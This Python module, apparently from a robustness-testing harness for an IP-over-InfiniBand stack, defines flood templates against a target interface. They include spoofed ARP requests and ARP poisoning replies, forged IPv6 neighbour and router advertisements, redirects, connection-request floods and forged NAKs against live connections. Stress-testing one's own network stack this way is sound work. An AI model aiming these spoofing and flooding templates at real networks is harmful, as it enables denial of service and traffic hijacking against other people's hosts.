# SPDX-License-Identifier: BSD-2-Clause
"""Packets of an attacker to one interface, as templates that `attack.c` sends at a rate.

Every template begins with the BTH (12 bytes) and, for datagrams, the DETH (8 bytes); the sender appends
the ICRC. `Flood.options` name the fields that differ in each packet, and whether the source is false.
"""

from __future__ import annotations

import struct
from dataclasses import dataclass
from ipaddress import IPv4Address, IPv6Address
from typing import Any, Final

from ipoibu.base.addr import MULTICAST_QPN, Gid, HwAddr, PKey, Qpn
from ipoibu.proto.neigh.advertised_routes import PREFIX_INFORMATION, ROUTE_INFORMATION
from ipoibu.wire import arp, ip, mad, mgid, ndisc
from ipoibu.wire.cm_code import CLASS, CLASS_VERSION, SEND, Attribute
from ipoibu.wire.cm_private import Private, ServiceForm, service_id
from ipoibu.wire.cm_setup import Path, Req
from ipoibu.wire.encap import Encap, EtherType
from ipoibu.wire.ndopt import Option

DATAGRAM: Final = 20  # BTH and DETH
ENCAP: Final = DATAGRAM + 4
STRANGER: Final = Gid.parse("fe80::bad:0:0:1")
SECOND_STRANGER: Final = Gid.parse("fe80::bad:0:0:2")
NAK_SEQUENCE: Final = 0x60
NAK_OPERATION: Final = 0x63
_UD_SEND: Final = 0x64
_RC_SEND_ONLY: Final = 0x04
_RC_ACK: Final = 0x11


@dataclass(frozen=True, slots=True)
class Target:
    """An interface under attack, as `ipoibu show` and `ipoibu conn` describe it."""

    gid: Gid
    qpn: int
    qkey: int
    pkey: int
    ipv4: IPv4Address
    ipv6: IPv6Address
    rc_qpn: int = 0  # of one of its connections

    @classmethod
    def of(cls, show: dict[str, Any], ipv4: object, ipv6: object, rc_qpn: int = 0) -> Target:
        return cls(
            Gid.parse(show["gid"]),
            int(show["qpn"], 16),
            int(show["qkey"], 16),
            int(show["pkey"], 16),
            IPv4Address(str(ipv4)),
            IPv6Address(str(ipv6)),
            rc_qpn,
        )


@dataclass(frozen=True, slots=True)
class Flood:
    """One kind of packet, from the BTH to before the ICRC, and how packets of the flood differ."""

    template: bytes
    options: tuple[str, ...] = ()
    source: Gid = STRANGER
    multicast: Gid | None = None  # the group, unless the flood goes to the interface's own GID


def _bth(opcode: int, target: Target, qpn: int, payload: bytes) -> bytes:
    pad = -len(payload) % 4
    return struct.pack("!BBHII", opcode, pad << 4, target.pkey, qpn, 0)


def _datagram(
    target: Target, payload: bytes, qpn: int | None = None, qkey: int | None = None
) -> bytes:
    qpn = target.qpn if qpn is None else qpn
    deth = struct.pack("!II", target.qkey if qkey is None else qkey, 0x666)
    return _bth(_UD_SEND, target, qpn, payload) + deth + payload + bytes(-len(payload) % 4)


# Datagrams


def bad_icrc(target: Target) -> Flood:
    """Packets that the HCA drops at once: the load with which all other floods are compared."""
    return Flood(_datagram(target, bytes(256)), ("bad-icrc",))


def nowhere(target: Target) -> Flood:
    """Good packets to queue pairs that nobody has."""
    return Flood(_datagram(target, bytes(256), qpn=0xFFFFF0), ("random:20:8",))


def gsi(target: Target) -> Flood:
    """Requests for connections from changing hosts, to queue pair 1."""
    request = Req(
        1,
        service_id(ServiceForm.LINUX, Qpn(target.qpn)),
        7,
        Qpn(0x666),
        0,
        PKey(target.pkey),
        4,
        Path(STRANGER, target.gid, hop_limit=64),
        private=Private(Qpn(0x666), 65524).pack(),
    )
    header = mad.Header(CLASS, CLASS_VERSION, SEND, Attribute.REQ, 1)
    options = ("source:4", f"random:{DATAGRAM + 8}:8", f"random:{DATAGRAM + 24}:4")
    return Flood(
        _datagram(target, header.pack() + request.pack(), mad.GSI_QPN, mad.GSI_QKEY), options
    )


def mads(target: Target) -> Flood:
    """Datagrams of no class that we speak, to queue pair 1."""
    header = mad.Header(0x09, 1, SEND, 1, 1)
    options = ("source:4", f"random:{DATAGRAM + 8}:8")
    return Flood(
        _datagram(target, header.pack().ljust(256, b"\0"), mad.GSI_QPN, mad.GSI_QKEY), options
    )


def stale_request(target: Target, peer: Gid, remote_qpn: int) -> Flood:
    """REQs that name the queue pair of the peer of a living connection (IBA volume 1, §12.9.8.3.1)."""
    request = Req(
        2,
        service_id(ServiceForm.LINUX, Qpn(target.qpn)),
        int.from_bytes(peer.raw[8:], "big"),  # the CA GUID of a built-in HCA
        Qpn(remote_qpn),
        0,
        PKey(target.pkey),
        4,
        Path(peer, target.gid, hop_limit=64),
        private=Private(Qpn(0x667), 65524).pack(),
    )
    header = mad.Header(CLASS, CLASS_VERSION, SEND, Attribute.REQ, 2)
    template = _datagram(target, header.pack() + request.pack(), mad.GSI_QPN, mad.GSI_QKEY)
    return Flood(template, (f"random:{DATAGRAM + 8}:8", f"random:{DATAGRAM + 24}:4"), peer)


def arp_requests(target: Target, wanted: IPv4Address, *, broadcast: bool = False) -> Flood:
    """ARP requests of senders that do not exist; hardware and IP address differ in each one."""
    message = arp.request(HwAddr(Qpn(0x666), STRANGER), IPv4Address("10.77.0.0"), wanted)
    frame = Encap(EtherType.ARP, message.pack()).pack()
    options = (
        f"random:{ENCAP + 8 + 1}:3",  # the sender's QPN
        f"random:{ENCAP + 8 + 16}:4",  # the end of its GID
        f"random:{ENCAP + 8 + 20 + 2}:2",  # the end of its IP address
    )
    if not broadcast:
        return Flood(_datagram(target, frame), options)
    return Flood(
        _datagram(target, frame, MULTICAST_QPN),
        options,
        multicast=mgid.broadcast(PKey(target.pkey)),
    )


def proxied(target: Target) -> Flood:
    """ARP requests of senders that do not exist, by broadcast, for ever new hosts of 198.51.0.0/16."""
    message = arp.request(
        HwAddr(Qpn(0), STRANGER), IPv4Address("10.77.0.0"), IPv4Address("198.51.0.0")
    )
    frame = Encap(EtherType.ARP, message.pack()).pack()
    options = (
        f"count:{DATAGRAM - 3}:3",  # the source queue pair of the DETH
        f"count:{ENCAP + 8 + 1}:3",  # the sender's QPN
        f"random:{ENCAP + 8 + 20 + 2}:2",  # the end of its IP address
        f"random:{ENCAP + 8 + 20 + 4 + 20 + 2}:2",  # that of the wanted one
    )
    return Flood(
        _datagram(target, frame, MULTICAST_QPN),
        options,
        multicast=mgid.broadcast(PKey(target.pkey)),
    )


def introductions(target: Target) -> Flood:
    """ARP requests of senders that do not exist, each from the queue pair that its message names."""
    message = arp.request(HwAddr(Qpn(0), STRANGER), IPv4Address("10.78.0.0"), target.ipv4)
    frame = Encap(EtherType.ARP, message.pack()).pack()
    options = (
        f"count:{DATAGRAM - 3}:3",  # the source queue pair of the DETH
        f"count:{ENCAP + 8 + 1}:3",  # the sender's QPN
        f"count:{ENCAP + 8 + 20 + 2}:2",  # the end of its IP address
    )
    return Flood(_datagram(target, frame), options)


def station(target: Target) -> Flood:
    """ARP requests of one queue pair in the name of ever new IP addresses."""
    message = arp.request(HwAddr(Qpn(0x666), STRANGER), IPv4Address("10.78.0.0"), target.ipv4)
    frame = Encap(EtherType.ARP, message.pack()).pack()
    return Flood(_datagram(target, frame), (f"count:{ENCAP + 8 + 20 + 2}:2",))


def poison(target: Target, victim: IPv4Address) -> Flood:
    """ARP replies that give a neighbour of the target a false and changing hardware address."""
    message = arp.Arp(
        arp.REPLY,
        HwAddr(Qpn(0x666), STRANGER),
        victim,
        HwAddr(Qpn(target.qpn), target.gid),
        target.ipv4,
    )
    frame = Encap(EtherType.ARP, message.pack()).pack()
    return Flood(_datagram(target, frame), (f"random:{ENCAP + 8 + 16}:4",))


def solicitations(target: Target, wanted: IPv6Address) -> Flood:
    """Neighbour solicitations of senders that do not exist."""
    source = IPv6Address("fd77::1:0:ffff:0:ffff")
    message = ndisc.NeighbourSolicitation(
        source, wanted, wanted, HwAddr(Qpn(0xFFFF), Gid.parse("fe80::bad:0:0:ffff"))
    )
    at = ENCAP + 8  # of the source address
    options = (f"twin:{at + 8}:{at + 10}", f"twin:{at + 12}:{at + 14}")
    return Flood(_datagram(target, Encap(EtherType.IPV6, message.pack()).pack()), options)


def lying_advertisements(target: Target, victim: IPv6Address) -> Flood:
    """Advertisements that give a neighbour of the target a false and changing hardware address."""
    false = Gid.parse("fe80::bad:0:0:ffff")
    message = ndisc.NeighbourAdvertisement(
        victim, target.ipv6, victim, HwAddr(Qpn(0x666), false), solicited=True, override=True
    )
    frame = Encap(EtherType.IPV6, message.pack()).pack()
    at = DATAGRAM + frame.index(false.raw) + 12
    return Flood(_datagram(target, frame), (f"twin:{at}:{at + 2}",))


def router_advertisements(target: Target, kind: str = "routers") -> Flood:
    """Advertisements of routers that do not exist, each from another port; with `kind` "prefixes" or
    "routes" those of one router, each with another prefix or route."""
    router = IPv6Address("fe80::1:0:ffff:0:ffff")
    prefix = IPv6Address("fd88:0:ffff:0:ffff::").packed
    options = {
        "routers": (),
        "prefixes": (
            Option(PREFIX_INFORMATION, struct.pack("!BBII4x", 64, 0xC0, 86_400, 86_400) + prefix),
        ),
        "routes": (Option(ROUTE_INFORMATION, struct.pack("!BBI", 80, 0, 86_400) + prefix),),
    }[kind]
    message = ndisc.RouterAdvertisement(router, ndisc.ALL_NODES, None, options, lifetime_s=9000)
    frame = Encap(EtherType.IPV6, message.pack()).pack()
    at = DATAGRAM + frame.index(prefix) + 2 if options else ENCAP + 8 + 8
    return Flood(
        _datagram(target, frame), (f"twin:{at}:{at + 2}", f"twin:{at + 4}:{at + 6}", "source:4")
    )


def redirects(target: Target, router: IPv6Address) -> Flood:
    """Redirects in the name of a router, of ever new destinations to ever new hosts."""
    better = IPv6Address("fe80::2:0:ffff:0:ffff")
    redirected = IPv6Address("fd99::2:0:ffff:0:ffff")
    liar = HwAddr(Qpn(0x666), STRANGER)
    message = ndisc.Redirect(router, target.ipv6, better, redirected, liar)
    frame = Encap(EtherType.IPV6, message.pack()).pack()
    options = ["source:4"]
    for address in (better, redirected):
        at = DATAGRAM + frame.index(address.packed) + 8
        options += [f"twin:{at}:{at + 2}", f"twin:{at + 4}:{at + 6}"]
    return Flood(_datagram(target, frame), tuple(options))


def packets(target: Target, source: Gid = STRANGER, *, invented: bool = False) -> Flood:
    """UDP packets of a host that does not exist to a closed port, for the host's IP stack.

    Their datagrams have one source, or invented ones.
    """
    udp = struct.pack("!HHHH", 9, 9, 8 + 200, 0) + bytes(200)
    packet = ip.Ipv4(IPv4Address("10.77.0.250"), target.ipv4, 17, udp)
    frame = Encap(EtherType.IPV4, packet.pack()).pack()
    options = (f"random:{ENCAP + 20}:2", *(("source:4",) if invented else ()))
    return Flood(_datagram(target, frame), options, source)


def hellos(target: Target) -> Flood:
    """Hellos of hosts with two rails that do not exist, each from the queue pair that its message names."""
    rails = b"".join(gid.raw + struct.pack("!I", 1) for gid in (STRANGER, SECOND_STRANGER))
    hello = struct.pack("!H2x4sBBBB4x32x", 0x88B6, b"ipor", 2, 2, 0, 0) + rails
    at = DATAGRAM + len(hello) - len(rails) + 17  # of the first queue pair
    return Flood(_datagram(target, hello), (f"count:{DATAGRAM - 3}:3", f"count:{at}:3"))


def invented_hosts(target: Target, to: IPv4Address) -> Flood:
    """UDP packets of ever new hosts of the network of `to`, a /16, to a closed port: the target's kernel
    answers each by an ICMP error."""
    udp = struct.pack("!HHHH", 9, 9, 8 + 200, 0) + bytes(200)
    packet = ip.Ipv4(IPv4Address(int(to) & 0xFFFF0000), to, 17, udp)
    frame = Encap(EtherType.IPV4, packet.pack()).pack()
    # The identification makes up for the source in the checksum of the header.
    return Flood(_datagram(target, frame), (f"twin:{ENCAP + 14}:{ENCAP + 4}",))


# Connections


def rc_requests(target: Target, peer: Gid, payload_bytes: int = 256) -> Flood:
    """Messages with the peer's address and random PSNs to the queue pair of a connection."""
    payload = bytes(payload_bytes)
    template = _bth(_RC_SEND_ONLY, target, target.rc_qpn, payload) + payload
    return Flood(template, ("random:9:3",), peer)


def naks(target: Target, peer: Gid, syndrome: int = NAK_OPERATION, port: int = 4791) -> Flood:
    """Refusals with the peer's address and random PSNs, against a connection of the target."""
    template = _bth(_RC_ACK, target, target.rc_qpn, b"") + struct.pack("!I", syndrome << 24)
    return Flood(template, ("random:9:3", f"port:{port}"), peer)
